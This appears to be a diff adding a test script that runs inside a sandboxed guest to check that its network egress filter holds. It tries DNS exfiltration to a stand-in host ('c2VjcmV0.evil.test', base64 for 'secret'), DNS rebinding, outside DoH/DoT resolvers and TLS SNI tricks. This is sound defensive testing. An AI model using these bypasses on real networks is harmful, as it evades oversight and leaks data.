@@ -1,0 +1,172 @@
+"""Runs inside a guest: tries what its network must not let it do, and what it must. Prints one line for each try.
+
+    attack.py names|tls|packets|places
+"""
+
+import socket
+import ssl
+import struct
+import sys
+import time
+
+PATIENCE_SECONDS = 15
+GATEWAY = [line.split()[1] for line in open("/etc/resolv.conf") if line.startswith("nameserver")][0]
+KINDS = {"A": 1, "TXT": 16, "AAAA": 28}
+CODES = {0: "NOERROR", 3: "NXDOMAIN", 5: "REFUSED"}
+
+
+def tell(what, result):
+    print(f"{what}: {result}", flush=True)
+
+
+def outcome(attempt):
+    """What came of it: an answer, a refusal, or silence."""
+    try:
+        return attempt()
+    except (ConnectionRefusedError, ConnectionResetError, BrokenPipeError):
+        return "refused"
+    except (TimeoutError, socket.timeout):
+        return "silence"
+    except OSError as error:
+        return f"refused ({error.errno})"
+
+
+def question(name, kind):
+    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
+    return struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", KINDS[kind], 1)
+
+
+def read_answer(message):
+    code, count = CODES.get(message[3] & 15, message[3] & 15), struct.unpack("!H", message[6:8])[0]
+    addresses, at = [], 12
+    while message[at]:
+        at += message[at] + 1
+    at += 5
+    for _ in range(count):
+        while message[at] and message[at] < 0xC0:
+            at += message[at] + 1
+        at += 2 if message[at] >= 0xC0 else 1
+        kind, _, _, length = struct.unpack("!HHIH", message[at:at + 10])
+        data = message[at + 10:at + 10 + length]
+        at += 10 + length
+        if kind == 1:
+            addresses.append(socket.inet_ntop(socket.AF_INET, data))
+        if kind == 28:
+            addresses.append(socket.inet_ntop(socket.AF_INET6, data))
+    return " ".join([code, *addresses])
+
+
+def look_up(name, kind="A", tcp=False, server=GATEWAY):
+    def attempt():
+        with socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM) as client:
+            client.settimeout(PATIENCE_SECONDS)
+            client.connect((server, 53))
+            asked = question(name, kind)
+            client.send(struct.pack("!H", len(asked)) + asked if tcp else asked)
+            answer = client.recv(4096)
+            if tcp and len(answer) == 2:
+                answer += client.recv(4096)
+            return read_answer(answer[2:] if tcp else answer)
+    return outcome(attempt)
+
+
+def connect(address, port, pieces=(b"GET / HTTP/1.0\r\n\r\n",), pause=0.0):
+    def attempt():
+        with socket.create_connection((address, port), timeout=PATIENCE_SECONDS) as client:
+            for piece in pieces:
+                client.sendall(piece)
+                time.sleep(pause)
+            answer = b""
+            while received := client.recv(4096):
+                answer += received
+            return answer.decode().split("\r\n")[-1] or "refused (closed)"
+    return outcome(attempt)
+
+
+def send(address, port):
+    def attempt():
+        family = socket.AF_INET6 if ":" in address else socket.AF_INET
+        with socket.socket(family, socket.SOCK_DGRAM) as client:
+            client.settimeout(3)
+            client.connect((address, port))
+            client.send(b"ping")
+            return client.recv(16).decode()
+    return outcome(attempt)
+
+
+def greeting(name, hidden=False):
+    """A TLS ClientHello for a name; `hidden`: with the extension that hides another name in it."""
+    out = ssl.MemoryBIO()
+    context = ssl.create_default_context()
+    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+    try:
+        context.wrap_bio(ssl.MemoryBIO(), out, server_hostname=name).do_handshake()
+    except ssl.SSLWantReadError:
+        pass
+    hello = bytearray(out.read())
+    if hidden:
+        extension = struct.pack("!HH", 0xFE0D, 8) + bytes(8)
+        at = 5 + 4 + 34
+        at += 1 + hello[at]
+        at += 2 + struct.unpack("!H", hello[at:at + 2])[0]
+        at += 1 + hello[at]
+        for place, size in ((at, 2), (6, 3), (3, 2)):
+            length = int.from_bytes(hello[place:place + size], "big") + len(extension)
+            hello[place:place + size] = length.to_bytes(size, "big")
+        hello += extension
+    return bytes(hello)
+
+
+def names():
+    for name in ("good.example.org", "fine.example.org", "chain.example.org", "rebind.example.org",
+                 "other.example.org", "c2VjcmV0.evil.test"):
+        tell(f"A {name}", look_up(name))
+    for kind in ("AAAA", "TXT"):
+        tell(f"{kind} rebind.example.org", look_up("rebind.example.org", kind))
+        tell(f"{kind} c2VjcmV0.evil.test", look_up("c2VjcmV0.evil.test", kind))
+    tell("AAAA good.example.org", look_up("good.example.org", "AAAA"))
+    tell("tcp good.example.org", look_up("good.example.org", tcp=True))
+    tell("tcp c2VjcmV0.evil.test", look_up("c2VjcmV0.evil.test", tcp=True))
+    tell("resolver udp", look_up("good.example.org", server="203.0.113.53"))
+    tell("resolver tcp", look_up("good.example.org", server="203.0.113.53", tcp=True))
+    tell("resolver dot", connect("203.0.113.53", 853))
+    tell("resolver doh", connect("203.0.113.53", 443, [greeting("dns.example.org")]))
+    tell("mdns", send("224.0.0.251", 5353))
+    for address in ("93.184.216.10", "2606:2800::10", "93.184.216.12", "93.184.216.11", "93.184.216.66", "10.1.2.3"):
+        tell(f"web {address}", connect(address, 80))
+    tell("udp 93.184.216.10", send("93.184.216.10", 5000))
+    tell("udp 93.184.216.11", send("93.184.216.11", 5000))
+
+
+def tls():
+    look_up("good.example.org")
+    look_up("good.example.org", "AAAA")
+    good, wrong = greeting("good.example.org"), greeting("other.example.org")
+
+    def split(hello):
+        return [hello[:1], hello[1:6], hello[6:60], hello[60:130], hello[130:]]
+
+    for place in ("93.184.216.10", "2606:2800::10"):
+        tell(f"right {place}", connect(place, 443, [good]))
+        tell(f"wrong {place}", connect(place, 443, [wrong]))
+    place = "93.184.216.10"
+    tell("right, split", connect(place, 443, split(good), 0.05))
+    tell("wrong, split", connect(place, 443, split(wrong), 0.05))
+    tell("no name", connect(place, 443, [greeting(None)]))
+    tell("hidden", connect(place, 443, [greeting("good.example.org", hidden=True)]))
+    tell("no tls", connect(place, 443))
+    tell("quic", send(place, 443))
+
+
+def packets():
+    tell("by name", send("open", 5353))
+    tell("other port", send("open", 5354))
+
+
+def places():
+    tell("public", connect("93.184.216.11", 80))
+    for address in sys.argv[2:]:
+        tell(address, connect(address, 80))
+
+
+{"names": names, "tls": tls, "packets": packets, "places": places}[sys.argv[1]]()
